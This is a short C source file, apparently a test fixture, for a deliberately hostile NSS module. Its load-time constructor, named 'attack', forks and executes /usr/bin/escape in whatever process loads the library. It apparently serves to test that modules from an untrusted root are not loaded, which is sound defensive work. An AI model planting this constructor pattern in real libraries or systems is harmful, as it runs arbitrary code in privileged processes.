/* SPDX-License-Identifier: GPL-2.0-or-later */
/* An NSS module of a hostile root: whoever loads it runs /usr/bin/escape. */
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
        pid_t pid = fork();
        if (pid == 0) {
                execl("/usr/bin/escape", "nss", (char *)NULL);
                _exit(1);
        }
        if (pid > 0)
                waitpid(pid, NULL, 0);
}
